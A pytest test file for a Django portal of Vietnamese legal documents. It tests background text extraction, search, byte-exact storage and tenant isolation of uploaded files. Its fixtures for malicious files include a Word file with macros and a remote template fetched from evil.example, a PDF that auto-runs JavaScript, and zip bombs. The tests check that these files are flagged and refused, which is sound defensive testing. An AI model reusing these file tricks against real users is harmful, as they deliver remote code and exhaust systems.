"""Texts of stored files: read in the background, found by search, originals untouched."""

import hashlib
import io

import pytest
from django.core.files.base import ContentFile
from django.core.management import CommandError, call_command
from PIL import Image

from editorial.roles import APPROVER
from legal.admin.listing import with_files
from legal.file_texts import kind_of_document, read_document, readings_of
from legal.models import FileText, LegalDocumentPage, LegalFile
from sites.models import PublishedItem
from sites.tasks import run_now
from sites.tenancy import entered
from tests.factories import image_bytes, make_user
from tests.home.word_files import paragraph, run, word_file
from tests.legal.documents import PATH, make_legal
from tests.legal.kept_files import LINES, read, sheet, signed_pdf, stored, word
from tests.legal.pdf_files import pdf_file
from tests.legal.test_extraction import LEGACY, encrypted

pytestmark = pytest.mark.django_db
PHRASE = "mắc ca"


def tiff(pages=2):
    frames = [Image.new("L", (400, 600), 250 - number) for number in range(pages)]
    file = io.BytesIO()
    frames[0].save(file, "TIFF", save_all=True, append_images=frames[1:])
    return file.getvalue()


KINDS = {
    "quyet-dinh.pdf": (pdf_file([LINES, LINES]), "pdf", 2, True),
    "da-ky.signed.pdf": (signed_pdf(), "pdf", 1, True),
    "van-ban.docx": (word(*LINES), "docx", 0, True),
    "phu-luc.xlsx": (sheet(["Xã", "Diện tích"], [LINES[2], 1.5], more=["Sheet2"]), "xlsx", 2, True),
    "scan.png": (image_bytes(kind="PNG"), "image", 1, False),
    "scan.jpg": (image_bytes(kind="JPEG"), "image", 1, False),
    "scan.JPEG": (image_bytes(kind="JPEG"), "image", 1, False),
    "scan.tiff": (tiff(), "image", 2, False),
    "scan.pdf": (pdf_file([[], []]), "pdf", 2, False),
}


@pytest.mark.parametrize("name", KINDS)
def test_r103_each_kind_is_accepted_read_and_kept_byte_for_byte(network, browse, name):
    content, kind, pages, has_text = KINDS[name]
    document = stored(network.commune, name, content)
    page = make_legal(network.commune, file=document)
    found = read(network.commune, document)
    assert (found.kind, found.pages, found.has_text_layer, found.refusal) == (
        kind, pages, has_text, "",
    )  # fmt: skip
    assert found.is_scan is not has_text and (PHRASE in found.text) is has_text
    checksum = hashlib.sha256(content).hexdigest()
    with entered(network.commune):
        row = LegalFile.objects.get(page=page)
        assert row.sha256 == found.sha256 == checksum and row.is_unaltered()
        url = page.download_url(row)
    response = browse(network.commune).get(url)
    assert b"".join(response.streaming_content) == content


def test_r104_words_inside_a_file_are_found_once_it_was_read(network, browse):
    document = stored(network.commune, "quyet-dinh.pdf", pdf_file([LINES]))
    page = make_legal(network.commune, file=document)
    client, query = browse(network.commune), {"q": PHRASE}
    assert page.slug not in client.get(PATH, query).content.decode()
    run_now(network.commune.schema_name)
    assert page.slug in client.get(PATH, query).content.decode()
    item = PublishedItem.objects.get(organisation=network.commune, page_id=page.pk)
    assert PHRASE in item.body
    assert page.slug not in browse(network.department).get(PATH, query).content.decode()


def test_r104_the_register_made_anew_holds_the_same_words(network):
    document = stored(network.commune, "quyet-dinh.pdf", pdf_file([LINES]))
    page = make_legal(network.commune, file=document)
    read(network.commune, document)
    before = PublishedItem.objects.get(page_id=page.pk, organisation=network.commune).body
    with entered(network.commune):
        LegalDocumentPage.objects.get(pk=page.pk).save_revision().publish()
    assert PublishedItem.objects.get(page_id=page.pk, organisation=network.commune).body == before


def test_a_file_is_read_once_and_again_when_its_bytes_changed(network):
    document = stored(network.commune, "quyet-dinh.pdf", pdf_file([LINES]))
    make_legal(network.commune, file=document)
    assert read(network.commune, document) is not None
    assert read(network.commune, document) is None
    with entered(network.commune):
        document.file = ContentFile(
            pdf_file([["Văn bản khác", "hoàn toàn khác với bản trước"]]), "b.pdf"
        )
        document.save()
        assert read_document(document).text.startswith("Văn bản khác")
        assert FileText.objects.count() == 1
        lines = LegalFile.objects.get(document=document).state_lines
    assert "thay" in lines[0], "the clerk is told that another file lies there"


def test_one_organisations_texts_are_not_anothers(network):
    document = stored(network.commune, "a.pdf", pdf_file([LINES]))
    make_legal(network.commune, file=document)
    read(network.commune, document)
    with entered(network.department):
        assert not FileText.objects.exists()


MACROS = {
    "word/vbaProject.bin": b"x",
    "word/_rels/settings.xml.rels": (
        '<Relationships xmlns="x"><Relationship Id="rId1" Type="attachedTemplate" '
        'Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>'
    ),
}
UNFOLDS = b"\0" * 210 * 1024**2
SCRIPT = b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"
BAD = {
    "encrypted.pdf": (encrypted(), "encrypted", ()),
    "truncated.pdf": (pdf_file([LINES])[:400], "damaged", ()),
    "script.pdf": (pdf_file([LINES], catalog=SCRIPT), "", ("javascript",)),
    "pages.pdf": (pdf_file([LINES] * 2000, unique=False), "", ()),
    "macros.docx": (word_file(paragraph(run(LINES[1])), extra=MACROS), "", ("macros", "template")),
    "bomb.docx": (word_file("", extra={"word/media/a.bin": UNFOLDS}), "too-large", ()),
    "bomb.xlsx": (word_file("", extra={"xl/media/a.bin": UNFOLDS}), "too-large", ()),
    "none.xlsx": (word_file(""), "damaged", ()),
    "old.zip": (word_file(""), "other", ()),
}  # fmt: skip


@pytest.mark.parametrize("name", BAD)
def test_bad_files_are_told_and_never_an_error(network, browse, name):
    content, refusal, notes = BAD[name]
    document = stored(network.commune, name, content)
    page = make_legal(network.commune, file=document)
    found = read(network.commune, document)
    assert (found.refusal, tuple(found.notes)) == (refusal, notes)
    with entered(network.commune):
        row = LegalFile.objects.get(page=page)
        assert row.state_lines
        response = browse(network.commune).get(page.view_url(row))
    assert response.status_code == 200
    html = response.content.decode()
    assert ("<iframe" in html) is (name == "pages.pdf")
    if name == "pages.pdf":
        assert found.pages == 2000
        assert len(response.content) < 200_000 and "Trang 1/100" in html


def test_a_file_of_no_bytes_is_refused_at_its_upload_and_read_as_empty(network):
    with entered(network.commune):
        document = make_empty(network.commune)
        assert read_document(document).refusal == "empty"


def make_empty(organisation):
    from home.models import PortalDocument

    return PortalDocument.objects.create(title="Rỗng", file=ContentFile(b"", name="rong.pdf"))


@pytest.mark.parametrize(
    ("name", "content", "encoding"),
    [
        ("cu.txt", LEGACY.encode("latin-1"), "tcvn3"),
        ("cu.pdf", pdf_file([[LEGACY]]), "tcvn3"),
        ("cu.xlsx", sheet([LEGACY, LEGACY]), "tcvn3"),
        ("nfd.txt", "Quyết định của Uỷ ban nhân dân tỉnh".encode(), ""),
        (
            "dieu-khien.pdf",
            pdf_file([["Quyết định của Uỷ ban nhân dân tỉnh về NĐ-", "CP, số 1"]]),
            "",
        ),
    ],
)
def test_r43_texts_before_unicode_and_odd_characters_are_mended(network, name, content, encoding):
    document = stored(network.commune, name, content)
    found = read(network.commune, document)
    assert found.encoding == encoding
    assert "Quyết định của Uỷ ban nhân dân tỉnh" in found.text
    assert not set("\x00\x01\x02") & set(found.text)


@pytest.fixture
def clerk(network, browse):
    client = browse(network.commune)
    with entered(network.commune):
        client.force_login(make_user(network.commune, APPROVER))
    return client


def test_the_clerk_sees_what_a_file_is_and_finds_the_scans(network, clerk):
    scan = stored(network.commune, "scan.pdf", pdf_file([[]]))
    page = make_legal(network.commune, file=scan)
    other = make_legal(network.commune, "142/KH-UBND")
    edit = f"/quan-tri/pages/{page.pk}/edit/"
    assert "Chưa đọc" in clerk.get(edit).content.decode()
    read(network.commune, scan)
    assert "Bản quét, không có lớp văn bản" in clerk.get(edit).content.decode()
    html = clerk.get("/quan-tri/van-ban/?files=scans").content.decode()
    assert page.symbol in html and other.symbol not in html
    with entered(network.commune):
        pages = LegalDocumentPage.objects.all()
        assert set(with_files(pages, "unread")) == {other}
        assert not with_files(pages, "refused").exists()


def test_citizens_are_told_that_a_file_is_a_scan(network, browse):
    scan = stored(network.commune, "scan.pdf", pdf_file([[]]))
    page = make_legal(network.commune, file=scan)
    read(network.commune, scan)
    html = browse(network.commune).get(f"{PATH}{page.slug}/").content.decode()
    assert "Bản quét, không có lớp văn bản" in html


def test_the_command_reads_what_is_left_and_counts(network, capsys):
    document = stored(network.commune, "a.pdf", pdf_file([LINES]))
    scan = stored(network.commune, "b.pdf", pdf_file([[]]))
    make_legal(network.commune, file=document)
    make_legal(network.commune, "142/KH-UBND", file=scan)
    call_command("extract_texts", "--organisation", network.commune.code)
    told = capsys.readouterr().out
    assert told.startswith(network.commune.code) and "1 read" in told and "1 scans" in told
    call_command("extract_texts", "--organisation", network.commune.code)
    assert "2 known" in capsys.readouterr().out
    with entered(network.commune):
        assert set(readings_of([document.pk, scan.pk])) == {document.pk, scan.pk}
        document.file.storage.delete(document.file.name)
    with pytest.raises(CommandError, match="1 "):
        call_command("extract_texts", "--organisation", network.commune.code)
    with pytest.raises(CommandError, match="khong-co"):
        call_command("extract_texts", "--organisation", "khong-co")


def test_the_kind_of_a_file_is_its_checked_ending(network):
    document = stored(network.commune, "A.PDF", pdf_file([LINES]))
    assert kind_of_document(document) == "pdf"
